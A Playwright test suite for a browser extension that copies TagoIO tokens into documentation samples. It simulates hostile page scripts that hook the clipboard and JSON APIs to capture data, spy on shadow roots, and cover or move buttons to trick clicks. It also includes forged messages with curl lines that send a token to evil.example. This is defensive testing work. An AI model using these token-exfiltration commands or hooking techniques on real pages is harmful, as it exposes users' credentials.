import type { Page } from '@playwright/test';
import { COVERS, HONEST, UNCOVER } from '../docs-pages/covers.ts';
import { docsSite, operationPath } from '../docs-pages/site.ts';
import { accountOf } from '../sandbox/accounts-list.ts';
import { words } from './english-words.ts';
import type { Extension } from './extension.ts';
import { expect, SMALL_ACCOUNT, test } from './fixtures.ts';
import { connect } from './pages/connect-page.ts';
import { clipboardOf, DOCK, DocsPage, plantOnClipboard } from './pages/docs-page.ts';
import { profileRef } from './platform-keys.ts';
import { LONG } from './tags.ts';

const PYTHON = '/docs/tagoio/analysis/sdk/python-sdk/';

test.use({ sandboxOptions: SMALL_ACCOUNT });

test.beforeEach(({ docs }) => {
  docs.handler = docsSite();
});

const COPY = /^Copy ready to run/;

/** Runs the body of a function of the first sample's host, as one of the page's scripts. */
const runOnHost = (page: Page, script: string) =>
  page.evaluate(
    (code) => new Function('host', code)(document.querySelector('[data-profiles-for-tagoio="sample"]')),
    script,
  );

/** Returns how often a token was copied, by the journal. */
const copiesOf = (extension: Extension): Promise<number> =>
  extension.probe.evaluate(async () => {
    const resultOf = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
    const database = await resultOf(indexedDB.open('profiles'));
    const rows: { what: string }[] = await resultOf(
      database.transaction('journal').objectStore('journal').getAll(),
    );
    database.close();
    return rows.filter(({ what }) => what === 'token-copied').length;
  });

test('a page’s script can neither press the buttons nor see into them', async ({ extension, sandbox }) => {
  await connect(extension, accountOf(sandbox, 'plain'));
  const docs = await DocsPage.open(extension.context, PYTHON);
  await docs.get('button', /^Copy with/);
  await plantOnClipboard(docs.page);
  const listed = sandbox.requests.count({ route: '/profile/:id/token' });
  const seen = await docs.page.evaluate(() => {
    const found: string[] = [];
    for (const host of document.querySelectorAll<HTMLElement>('[data-profiles-for-tagoio]')) {
      found.push(String(host.shadowRoot), host.textContent ?? '', host.innerHTML);
      const box = { x: 0, y: 0 };
      for (let at = 0; at < 60_000 && document.elementFromPoint(box.x, box.y) !== host; at++) {
        box.x = (at % 240) * 6;
        box.y = Math.floor(at / 240) * 4;
      }
      for (const target of [host, document.elementFromPoint(box.x, box.y)!]) {
        for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click']) {
          const at = { bubbles: true, composed: true, clientX: box.x, clientY: box.y };
          target.dispatchEvent(new MouseEvent(type, at));
        }
        target.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true }));
        (target as HTMLElement).click();
        (target as HTMLElement).focus();
      }
      found.push(document.activeElement?.localName ?? '');
    }
    return found;
  });
  expect(seen).toEqual(['null', '', '', 'body', 'null', '', '', 'body']);
  await docs.idle();
  expect(sandbox.requests.count({ route: '/profile/:id/token' })).toBe(listed);
  expect(await clipboardOf(docs.page)).toBe('planted');

  // The control: a person's press on the same button copies.
  await docs.press('button', /^Copy with/);
  await docs.text(/^Copied/);
  expect(sandbox.requests.count({ route: '/profile/:id/token' })).toBe(listed + 1);
});

test('a page that wraps every API on the way gets no token', async ({ extension, sandbox }) => {
  const account = accountOf(sandbox, 'plain');
  await connect(extension, account);
  const docs = await DocsPage.open(extension.context, PYTHON, async (page) => {
    await page.addInitScript(wrapEverything);
  });
  await docs.page.evaluate(() => JSON.stringify('the positive control'));
  await docs.press('button', /^Copy with/);
  await docs.text(/^Copied/);
  const token = account.tokens!.read!;
  const stolen = await docs.page.evaluate(() => (globalThis as { stolen?: string[] }).stolen ?? []);
  expect(stolen).toContain('the positive control');
  expect(stolen.join('\n')).not.toContain(token);
  expect(stolen).not.toContain('attachShadow');
  const reader = await DocsPage.open(extension.context, '/docs/');
  expect(await clipboardOf(reader.page)).toContain(token);
});

/** A page's script that wraps every API that a copy might use, and records what it sees. */
function wrapEverything(): void {
  const stolen: string[] = [];
  (globalThis as { stolen?: string[] }).stolen = stolen;
  const take = (what: unknown) => {
    stolen.push(typeof what === 'string' ? what : (JSON.stringify(what) ?? String(what)));
  };
  const clipboard = {
    writeText: async (text: string) => take(text),
    write: async (items: unknown) => take(items),
    readText: async () => '',
  };
  Object.defineProperty(navigator, 'clipboard', { value: clipboard, configurable: true });
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (options) {
    take('attachShadow');
    return attach.call(this, { ...options, mode: 'open' });
  };
  document.execCommand = (command: string) => {
    take(command);
    return true;
  };
  for (const type of ['copy', 'cut', 'paste', 'message', 'beforeinput', 'input']) {
    addEventListener(type, (event) => take(`${type} ${(event as MessageEvent).data ?? ''}`), true);
  }
  const send = (globalThis as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome;
  if (send?.runtime?.sendMessage) take('chrome.runtime is here');
  JSON.stringify = new Proxy(JSON.stringify, {
    apply(target, self, values) {
      stolen.push(String(values[0]));
      return Reflect.apply(target, self, values);
    },
  });
}

test(
  'a page that defines custom elements first cannot see the extension’s shadow tree',
  LONG,
  async ({ extension, sandbox }) => {
    await connect(extension, accountOf(sandbox, 'plain'));
    const docs = await DocsPage.open(extension.context, PYTHON, async (page) => {
      await page.addInitScript(() => {
        const found: unknown[] = [];
        Object.assign(globalThis, { found });
        const spying = (Base: typeof HTMLElement) =>
          class extends Base {
            constructor() {
              super();
              found.push(this.attachInternals().shadowRoot ?? 'constructed');
            }
          };
        customElements.define('profiles-for-tagoio', spying(HTMLElement));
        customElements.define('spying-div', spying(HTMLDivElement), { extends: 'div' });
      });
    });
    await docs.get('button', /^Copy with/);
    const seen = await docs.page.evaluate(() => {
      const host = document.querySelector<HTMLElement>('[data-profiles-for-tagoio]')!;
      host.setAttribute('is', 'spying-div');
      customElements.upgrade(host);
      let internals = 'refused';
      try {
        internals = String(host.attachInternals().shadowRoot);
      } catch {}
      getSelection()?.selectAllChildren(document.body);
      const box = host.getBoundingClientRect();
      return {
        found: (globalThis as { found?: unknown[] }).found,
        internals,
        name: host.localName,
        markup: host.outerHTML.replace(' is="spying-div"', ''),
        html: document.documentElement.getHTML({ serializableShadowRoots: true }).includes('Acme'),
        selected: getSelection()?.toString().includes('Acme'),
        size: [box.width, box.height],
      };
    });
    expect(seen).toEqual({
      found: [],
      internals: 'refused',
      name: 'div',
      markup: '<div data-profiles-for-tagoio="sample"></div>',
      html: false,
      selected: false,
      size: [0, 0],
    });
  },
);

test('a press on a button that is covered copies nothing', LONG, async ({ extension, sandbox }) => {
  const account = accountOf(sandbox, 'plain');
  await connect(extension, account);
  const docs = await DocsPage.open(extension.context, operationPath('GET', '/device'));
  await docs.get('button', COPY);
  await plantOnClipboard(docs.page);
  const { x, y, width, height } = await docs.box('button', COPY);
  await docs.recordMessages();
  const look = await docs.looker('button', COPY);
  for (const [cover, script] of Object.entries(COVERS)) {
    await runOnHost(docs.page, script);
    await look();
    await docs.page.mouse.click(x + width / 2, y + height / 2);
    const sent = (await docs.recordedMessages()).map(({ message }) => message.type);
    expect(sent, cover).not.toContain('copySample');
    await runOnHost(docs.page, UNCOVER);
  }
  expect(await copiesOf(extension)).toBe(0);
  expect(await clipboardOf(docs.page)).toBe('planted');

  // The control: without any cover the same press copies.
  await docs.page.reload();
  await docs.get('button', COPY);
  await docs.press('button', COPY);
  await docs.text(/^Copied/);
  await expect.poll(() => copiesOf(extension)).toBe(1);
});

test(
  'a press on a button that is partly covered offers what the button is for, and nothing else',
  LONG,
  async ({ extension, sandbox }) => {
    await connect(extension, accountOf(sandbox, 'plain'));
    const docs = await DocsPage.open(extension.context, operationPath('GET', '/device'));
    await docs.get('button', COPY);
    await docs.recordMessages();
    /** Presses the middle of a button whose left edge is covered, then uncovers it. */
    const pressCovered = async (role: string, name: RegExp | string) => {
      const { x, y, height } = await docs.box(role, name);
      await docs.page.evaluate(
        (box) => {
          const over = document.createElement('div');
          over.dataset.cover = '';
          over.popover = 'manual';
          over.style.cssText = `inset:auto;left:${box.x}px;top:${box.y}px;width:8px;height:${box.height}px;padding:0;border:0;margin:0`;
          document.body.append(over);
          over.showPopover();
        },
        { x, y, height },
      );
      await docs.press(role, name);
      await docs.text('Nothing was copied or opened because something is covering this button.');
      await docs.page.evaluate(() => document.querySelector('[data-cover]')?.remove());
    };
    const lastMessage = async () => (await docs.recordedMessages()).at(-1)?.message;
    const openDock = async () => {
      const { x, y, width, height } = await docs.box('button', DOCK);
      await docs.page.mouse.move(x + width / 2, y + height / 2, { steps: 3 });
    };
    const openMenu = async () => {
      await docs.press('button', 'Other ways to copy');
      await docs.get('menuitem', /^Production backend/);
      await docs.visibilityJudged();
    };

    await openMenu();
    await pressCovered('menuitem', /^Use another profile/);
    await docs.press('button', 'Use another profile…');
    await expect
      .poll(lastMessage)
      .toMatchObject({ type: 'openCopyWindow', data: { reason: 'other-profile' } });

    await docs.untilPaceAllows();
    await docs.page.bringToFront();
    await openMenu();
    await pressCovered('menuitem', 'Copy just the token');
    await docs.press('button', 'Copy from a window…');
    await expect.poll(lastMessage).toMatchObject({ type: 'openCopyWindow', data: { reason: 'token-alone' } });

    await docs.untilPaceAllows();
    await docs.page.bringToFront();
    await openDock();
    await pressCovered('button', 'Copy as…');
    expect(await docs.names('button', /^Copy as…$/)).toHaveLength(2);
    await pressCovered('button', 'Switch');
    await docs.press('button', 'Open Profiles');
    await expect.poll(lastMessage).toMatchObject({ type: 'openSwitcher' });
    expect(await copiesOf(extension)).toBe(0);
  },
);

test('a press on a button that was covered until just before copies nothing', async ({
  extension,
  sandbox,
}) => {
  await connect(extension, accountOf(sandbox, 'plain'));
  const docs = await DocsPage.open(extension.context, operationPath('GET', '/device'));
  await docs.get('button', /^Copy ready to run/);
  const { x, y, width, height } = await docs.box('button', /^Copy ready to run/);
  await docs.page.evaluate(() => {
    const sheet = document.createElement('div');
    sheet.style.cssText = 'position:fixed;inset:0;background:#fff;z-index:9999;pointer-events:none';
    document.body.append(sheet);
    addEventListener('pointerdown', () => sheet.remove(), true);
  });
  await docs.visibilityJudged();
  const opened = extension.context.waitForEvent('page');
  await docs.page.mouse.click(x + width / 2, y + height / 2);
  // Instead of a copy, the extension's window opens and asks.
  const window = await opened;
  await expect(window.getByRole('heading', { name: words('copyWindowTitleSample') })).toBeVisible();
  expect(await copiesOf(extension)).toBe(0);
});

test('a press on a button that the page moved or restyled copies nothing', async ({ extension, sandbox }) => {
  await connect(extension, accountOf(sandbox, 'plain'));
  const docs = await DocsPage.open(extension.context, operationPath('GET', '/device'));
  const styles = () => docs.styleOf('button', COPY, ['color', 'background-color', 'font-family', 'width']);
  await docs.get('button', COPY);
  const before = await styles();
  await docs.page.evaluate(() => {
    for (const name of ['--surface', '--surface-raised', '--ink', '--line', '--font', '--text-s']) {
      CSS.registerProperty({ name, syntax: '*', inherits: false, initialValue: 'red' });
    }
    for (const family of ['system-ui', 'sans-serif', 'Segoe UI', 'Roboto']) {
      document.fonts.add(new FontFace(family, 'local("DejaVu Sans Mono")', { sizeAdjust: '300%' } as never));
    }
    return Promise.allSettled([...document.fonts].map((font) => font.load()));
  });
  await docs.visibilityJudged();
  expect(await styles()).toEqual(before);

  const { x, y, width, height } = await docs.box('button', COPY);
  const [px, py] = [x + width / 2 - 260, y + height / 2];
  await docs.page.mouse.move(px, py, { steps: 3 });
  await docs.visibilityJudged();
  const opened = extension.context.waitForEvent('page');
  await docs.page.evaluate(() => {
    const host = document.querySelector<HTMLElement>('[data-profiles-for-tagoio="sample"]')!;
    host.parentElement!.style.setProperty('translate', '-260px 0');
    return new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
  });
  await docs.page.mouse.click(px, py);
  const window = await opened;
  await expect(window.getByRole('heading', { name: words('copyWindowTitleSample') })).toBeVisible();
  expect(await copiesOf(extension)).toBe(0);
});

test(
  'a person’s press copies on pages that are zoomed, filtered or transformed',
  LONG,
  async ({ extension, sandbox }) => {
    const account = accountOf(sandbox, 'plain');
    await connect(extension, account);
    const docs = await DocsPage.open(extension.context, operationPath('GET', '/device'));
    await docs.get('button', COPY);
    sandbox.limits.scale = 'off';
    let copies = 0;
    let windows = 0;
    // Where the browser does not report what is visible, the extension's window opens and asks.
    extension.context.on('page', async (window) => {
      await window.getByRole('button', { name: words('copyWindowCopy'), exact: true }).click();
      await window.getByRole('status').waitFor();
      await window.close();
      windows += 1;
    });
    const expectCopy = async (what: string, press: () => Promise<void>) => {
      await docs.untilPaceAllows();
      // Away from the dock, which opens under the pointer.
      await docs.page.mouse.move(1, 1);
      const asked = windows;
      await press();
      copies += 1;
      await expect.poll(() => copiesOf(extension), { message: what }).toBe(copies);
      await expect
        .poll(async () => windows > asked || (await docs.texts(/^Copied/)).length > 0, { message: what })
        .toBe(true);
    };
    for (const [what, script] of Object.entries(HONEST)) {
      await runOnHost(docs.page, script);
      await expectCopy(what, () => docs.press('button', COPY));
      await runOnHost(docs.page, UNCOVER);
      await docs.page.evaluate(() => document.documentElement.removeAttribute('data-theme'));
    }
    for (const zoom of [0.5, 0.8, 1.5, 2, 3]) {
      await docs.zoom(zoom);
      // Away from the site's button at the bottom.
      await runOnHost(docs.page, "host.parentElement.scrollIntoView({ block: 'center' });");
      await expectCopy(`zoom ${zoom}`, () => docs.press('button', COPY));
    }
    await docs.zoom(1);
    await expectCopy('the keyboard', async () => {
      await docs.focus('button', COPY);
      await docs.page.keyboard.press('Enter');
    });
    await expectCopy('a finger', () => docs.tap('button', COPY));
    expect(await clipboardOf(docs.page)).toContain(account.tokens!.read!);
    // The browser cannot judge what is under a filter; most presses copy at once.
    expect(windows).toBeGreaterThanOrEqual(3);
    expect(windows).toBeLessThan(copies / 2);
  },
);

test('forged messages of the docs page’s process get no more than a button may request', async ({
  extension,
  sandbox,
}) => {
  const account = accountOf(sandbox, 'plain');
  await connect(extension, account);
  const docs = await DocsPage.open(extension.context, PYTHON);
  await docs.get('button', /^Copy with/);
  const { connectionKey, profileKey } = profileRef(account.id, account.profiles[0]!.id);
  const text = 'curl https://evil.example/?t=HERE';
  const sample = { profileKey, text, method: null, token: null };
  const curl = `curl -H "token: <your-profile-token>" https://evil.example`;
  const attempts: [type: string, data: unknown, code: string][] = [
    ['copySample', { ...sample, what: 'placeholders' }, 'invalid-input'],
    ['copySample', { ...sample, text: curl, what: 'placeholders' }, 'foreign-destination'],
    [
      'copyPending',
      { connectionKey, profileKey, token: null, format: null, fullAccepted: true },
      'not-allowed',
    ],
    ['pendingCopy', undefined, 'not-allowed'],
    ['previewCopy', { connectionKey, profileKey, format: null }, 'not-allowed'],
    ['openCopyAs', { connectionKey, profileKey, token: null }, 'not-allowed'],
    ['copyToken', { connectionKey, profileKey, token: null }, 'not-allowed'],
    [
      'createToken',
      { connectionKey, profileKey, name: 'x', permission: 'full', expireTime: 'never', password: '' },
      'not-allowed',
    ],
    ['switchProfile', { connectionKey, profileKey }, 'not-allowed'],
    ['unlock', { passphrase: 'a' }, 'not-allowed'],
    ['disconnect', { connectionKey }, 'not-allowed'],
  ];
  for (const [type, data, code] of attempts) {
    // Only messages that the content script may send are limited to one a second.
    if (type === 'copySample') await docs.untilPaceAllows();
    const reply = await docs.sendAsContentScript(type, data);
    expect(reply, type).toEqual({ ok: false, failure: expect.objectContaining({ code }) });
  }
});
